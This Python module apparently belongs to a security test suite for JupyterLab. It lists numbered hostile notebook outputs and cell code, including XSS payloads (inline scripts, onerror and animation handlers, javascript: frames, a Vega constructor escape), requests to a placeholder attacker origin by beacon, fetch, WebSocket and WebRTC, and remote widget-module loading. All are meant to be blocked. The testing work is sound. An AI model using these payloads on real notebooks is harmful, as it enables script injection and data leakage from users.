"""Hostile outputs of a notebook, each with a mark of its own by which it is known when it gets anything through.

In a text, `@E` is the attack's own origin in the sink, `@H` its host and port, `@U` the sink's datagram port, `@B` the
path below which JupyterLab answers, `@D` a statement that marks the page.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

from .model import Attack, Expected, Stands, attack

HTML = "text/html"
CLICK = "click"


@dataclass(frozen=True)
class Output:
    """An attack as a piece of a notebook.

    Attributes
    ----------
    mime
        The output's type; `markdown` is a cell of its own.
    click
        Whether the person clicks on what is shown.
    """

    attack: Attack
    content: Any
    mime: str = HTML
    click: bool = False
    no_control: str = ""
    files: dict[str, str] = field(default_factory=dict)

    @property
    def mark(self) -> str:
        return f"m{self.attack.number}"


OUTPUTS: list[Output] = []


def output(
    number: int, title: str, content: Any, mime: str = HTML, *, reference: str = "lab_channels 17", **more: Any
) -> None:
    expected = Expected(more.pop("expected", "blocked"))
    OUTPUTS.append(
        Output(attack(number, title, Stands.PAGE, expected=expected, reference=reference), content, mime, **more)
    )


SCRIPT = "lab_channels 13 to 15"
output(801, "An inline script", "<script>@D</script>", reference=SCRIPT)
output(802, "An image's error handler", "<img src=x: onerror='@D'>", reference=SCRIPT)
output(
    803, "A drawing's animation handler", "<svg><animate attributeName=x dur=1s onbegin='@D' /></svg>", reference=SCRIPT
)
output(
    804, "A script in a frame made of text", '<iframe srcdoc="<script>parent.@D</script>"></iframe>', reference=SCRIPT
)
output(805, "A handler of what unfolds", "<details open ontoggle='@D'>x</details>", reference=SCRIPT)
output(806, "A script from elsewhere", "<script src='@E/m806.js'></script>", reference=SCRIPT)
output(
    807,
    "A script among the project's files",
    "<script src='@Bfiles/m807.js'></script>",
    reference=SCRIPT,
    files={"m807.js": "@D"},
)
output(
    808,
    "A script among a kernel's files",
    "<script src='@Bkernelspecs/trick/m808.js'></script>",
    reference=SCRIPT,
    files={
        ".local/share/jupyter/kernels/trick/m808.js": "@D",
        ".local/share/jupyter/kernels/trick/kernel.json": '{"argv": ["true"], "display_name": "T", "language": "x"}',
    },
)
output(809, "A module from elsewhere", "<script type=module>import '@E/m809.js'</script>", reference=SCRIPT)
output(810, "A frame whose address is a script", "<iframe src='javascript:parent.@D'></iframe>", reference=SCRIPT)
output(
    811,
    "A form whose address is a script",
    "<form action='javascript:@D'><button id=m811>x</button></form>",
    reference=SCRIPT,
    click=True,
)
output(812, "JavaScript as an output's type", "@D", "application/javascript", reference="lab_channels 13")
output(813, "A film's error handler", "<video><source src=x: onerror='@D'></video>", reference=SCRIPT)
output(
    814,
    "A handler of a style's animation",
    "<style>@keyframes m814{}</style><b style='animation:m814 1s' onanimationstart='@D'>x</b>",
    reference=SCRIPT,
)
output(
    815,
    "A script as data in an embedded object",
    "<object data=\"data:text/html,<script>new Image().src='@E/m815'</script>\"></object>",
    reference=SCRIPT,
)
# What loads by itself.
output(820, "An image", "<img src='@E/m820'>")
output(821, "An image's set of sources", "<img srcset='@E/m821 1x'>")
output(822, "A style's background", "<div style='background:url(@E/m822);width:9px;height:9px'></div>")
output(823, "An imported style", "<style>@import '@E/m823.css';</style>")
output(824, "A font", "<style>@font-face{font-family:m824;src:url(@E/m824)}</style><b style='font-family:m824'>x</b>")
output(
    825,
    "Selectors of a style that tell what the page holds",
    "<style>body[data-jp-theme-name]{--x:url(@E/m825);background-image:var(--x)!important}</style>",
)
output(826, "A film", "<video src='@E/m826' autoplay preload=auto></video>")
output(827, "A film's still", "<video poster='@E/m827'></video>")
output(828, "A sound", "<audio src='@E/m828' autoplay preload=auto></audio>")
output(829, "An embedded object", "<object data='@E/m829' type='image/svg+xml'></object>")
output(830, "An embedded document", "<embed src='@E/m830.html' type='text/html'>")
output(831, "A frame", "<iframe src='@E/m831.html'></iframe>")
output(832, "A style sheet", "<link rel=stylesheet href='@E/m832.css'>")
output(833, "A page fetched in advance", "<link rel=prefetch href='@E/m833'>")
output(834, "A picture loaded in advance", "<link rel=preload as=image href='@E/m834'>")
output(835, "A module loaded in advance", "<link rel=modulepreload href='@E/m835.js'>")
output(
    836, "The window's icon", "<link rel=icon href='@E/m836'>", no_control="a browser without a screen shows no icon"
)
output(837, "A drawing's image", "<svg width=9 height=9><image href='@E/m837' width=9 height=9 /></svg>")
output(
    838,
    "A drawing's pattern from elsewhere",
    "<svg width=9 height=9><rect width=9 height=9 style='mask-image:url(@E/m838)'/></svg>",
)
output(839, "A button that is an image", "<input type=image src='@E/m839'>")
output(840, "A table's background", "<table background='@E/m840'><tr><td>x</table>")
output(841, "A list's bullet", "<ul style='list-style-image:url(@E/m841)'><li>x</ul>")
output(842, "The picture of a Markdown cell", "![x](@E/m842)", "markdown", reference="lab_channels 18")
output(843, "HTML in a Markdown cell", "<img src='@E/m843'>", "markdown", reference="lab_channels 18")
output(
    844,
    "The data of a Vega chart",
    {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
        "data": {"url": "@E/m844.json"},
        "mark": "bar",
        "encoding": {"x": {"field": "a", "type": "quantitative"}},
    },
    "application/vnd.vegalite.v5+json",
    reference="lab_channels 18",
)
output(
    845,
    "The picture of a Vega chart",
    {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "width": 9,
        "height": 9,
        "marks": [
            {
                "type": "image",
                "encode": {"enter": {"url": {"value": "@E/m845"}, "width": {"value": 9}, "height": {"value": 9}}},
            }
        ],
    },
    "application/vnd.vega.v5+json",
    reference="lab_channels 18",
)
output(
    846,
    "A script's request, by each way at once",
    "<script>navigator.sendBeacon('@E/m846');fetch('@E/m846',{mode:'no-cors'});new WebSocket('ws://@H/m846')</script>",
    reference="lab_channels 16",
)
output(
    847,
    "A script's datagrams (WebRTC)",
    "<script>(async()=>{const p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:@U'}]});"
    "p.createDataChannel('x');await p.setLocalDescription(await p.createOffer())})()</script>",
    reference="lab_channels 22",
)
# What a click leads to.
output(
    852,
    "A link in a window of its own",
    "<a id=m852 target=_blank href='@E/m852'>x</a>",
    click=True,
    reference="lab_channels 20",
)
output(853, "A link with a ping", "<a id=m853 href='#x' ping='@E/m853'>x</a>", click=True)
output(
    854,
    "A download made of text",
    "<a id=m854 download=m854.txt href='data:text/plain,secret'>x</a>",
    click=True,
    reference="lab_channels 23",
)
output(
    855,
    "A download of the project's file",
    "<a id=m855 download href='@Bfiles/m855.txt'>x</a>",
    click=True,
    reference="lab_channels 23",
    files={"m855.txt": "secret"},
)
output(
    856,
    "A link of a Markdown cell",
    "<a href='@E/m856' id=m856>x</a>",
    "markdown",
    click=True,
    reference="lab_channels 18, 20",
)
output(857, "A link in a formula", "$\\href{@E/m857}{x}$", "markdown", click=True, reference="lab_channels 18")

AWAY: list[Output] = []
"""What leads the page itself away, each in a page of its own."""


def away(number: int, title: str, content: str, **more: Any) -> None:
    AWAY.append(Output(attack(number, title, Stands.PAGE, reference="lab_channels 19, 21"), content, **more))


away(850, "A form sent by GET", "<form action='@E/m850'><button id=m850>x</button></form>", click=True)
away(
    851,
    "A form sent by POST",
    "<form method=post action='@E/m851'><input name=a value=b><button id=m851>x</button></form>",
    click=True,
)
away(
    858,
    "A form that opens a window",
    "<form action='@E/m858' target=_blank><button id=m858>x</button></form>",
    click=True,
)
away(860, "A page that turns to another by itself", "<meta http-equiv=refresh content='0;url=@E/m860'>")
away(861, "A link in the same tab", "<a id=m861 target=_self href='@E/m861'>x</a>", click=True)
away(862, "A link to the whole window", "<a id=m862 target=_top href='@E/m862'>x</a>", click=True)
away(863, "A script that leaves the page", "<script>location.href='@E/m863'</script>")
away(
    864,
    "A form to the whole window",
    "<form target=_top action='@E/m864'><button id=m864>x</button></form>",
    click=True,
)
away(865, "Another base for the page's addresses", "<base href='@E/m865/'><img src='m865.png'>")


def notebook(outputs: list[Output], fill: Any) -> dict[str, Any]:
    """Return a notebook with the outputs in it, each text filled by `fill(text, mark)`."""
    cells: list[dict[str, Any]] = []
    for one in outputs:
        text = fill(one.content if isinstance(one.content, str) else json.dumps(one.content), one.mark)
        if one.mime == "markdown":
            cells.append({"cell_type": "markdown", "id": one.mark, "metadata": {}, "source": text})
            continue
        shown = text if isinstance(one.content, str) else json.loads(text)
        if not cells or cells[-1]["cell_type"] != "code" or len(cells[-1]["outputs"]) >= 8:
            cells.append(
                {
                    "cell_type": "code",
                    "id": f"c{one.mark}",
                    "metadata": {"trusted": True},
                    "source": "x",
                    "execution_count": 1,
                    "outputs": [],
                }
            )
        data = {one.mime: shown}
        cells[-1]["outputs"].append({"output_type": "display_data", "data": data, "metadata": {}})
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return {"cells": cells, "metadata": {"kernelspec": kernel}, "nbformat": 4, "nbformat_minor": 5}


NOT_EVEN_PLAIN = "JupyterLab itself does not run it"

DISPLAYED: list[Output] = []
"""What a cell displays when it is run: a statement of Python each."""


def displayed(number: int, title: str, code: str, *, reference: str = "lab_channels 13 to 18", **more: Any) -> None:
    DISPLAYED.append(Output(attack(number, title, Stands.PAGE, reference=reference), code, "python", **more))


displayed(870, "A cell that displays a script", 'display(HTML("<script>@D</script>"))')
displayed(871, "A cell that displays JavaScript", 'display(Javascript("@D"))')
displayed(872, "A cell that displays an image from elsewhere", 'display(Image(url="@E/m872"))')
displayed(873, "A cell that displays a frame", 'display(IFrame("@E/m873.html", 9, 9))')
displayed(874, "A cell that displays Markdown with a picture", 'display(Markdown("![x](@E/m874)"))')
displayed(875, "A widget that holds HTML with a handler", "display(widgets.HTML(\"<img src=x: onerror='@D'>\"))")
displayed(876, "A widget that holds an image from elsewhere", 'display(widgets.HTML("<img src=@E/m876>"))')
displayed(
    877,
    "A widget's label with a handler",
    'display(widgets.HTML("x", description="<img src=x: onerror=\'@D\'>", description_allow_html=True))',
    no_control=NOT_EVEN_PLAIN,
)
displayed(
    878,
    "A widget whose code comes from elsewhere",
    'display({"application/vnd.jupyter.widget-view+json": {"model_id": evil("@E/m878.js")}}, raw=True)',
    no_control=NOT_EVEN_PLAIN,
)
displayed(
    879,
    "An output that is changed into a script after it was shown",
    'h = display(HTML("x"), display_id=True); h.update(HTML("<script>@D</script>"))',
)
displayed(
    880,
    "A Vega chart with data from elsewhere",
    'display({"application/vnd.vegalite.v5+json": {"data": {"url": "@E/m880.json"}, "mark": "bar", "encoding":'
    ' {"x": {"field": "a", "type": "quantitative"}}}}, raw=True)',
)
displayed(
    881,
    "A Vega expression that reaches for the page's functions",
    'display({"application/vnd.vega.v5+json": {"signals": [{"name": "s", "update":'
    " \"[].constructor.constructor('@D')()\"}]}}, raw=True)",
    no_control=NOT_EVEN_PLAIN,
)
displayed(
    882,
    "A diagram (Mermaid) with a handler",
    'display(Markdown("```mermaid\\ngraph TD\\nA[\\"<img src=x: onerror=\'@D\'>\\"]\\n```"))',
    no_control=NOT_EVEN_PLAIN,
)
displayed(
    883, "A table whose cells hold a handler", 'display(pandas.DataFrame({"a": ["<img src=x: onerror=\'@D\'>"]}).style)'
)
displayed(
    884,
    "A video of the project's embedded as a page",
    "display(HTML(\"<embed src='data:text/html,<script>new Image().src=`@E/m884`</script>'>\"))",
)

_IMPORTS = """
from IPython.display import HTML, IFrame, Image, Javascript, Markdown, display
import ipywidgets as widgets, pandas, comm
def evil(module):
    state = {"_model_module": module, "_model_module_version": "1", "_model_name": "M", "_view_module": module,
             "_view_module_version": "1", "_view_name": "V"}
    return comm.create_comm(target_name="jupyter.widget", data={"state": state, "buffer_paths": []},
                            metadata={"version": "2.1.0"}).comm_id
"""


def program(outputs: list[Output], fill: Any) -> str:
    """Return the code of a cell that displays everything, then says so."""
    attempts = [
        f"try:\n    {fill(one.content, one.mark)}\nexcept Exception as e:\n    print('{one.mark}', repr(e))"
        for one in outputs
    ]
    return "\n".join([_IMPORTS, *attempts, "print('ALL-' + 'DISPLAYED')"])
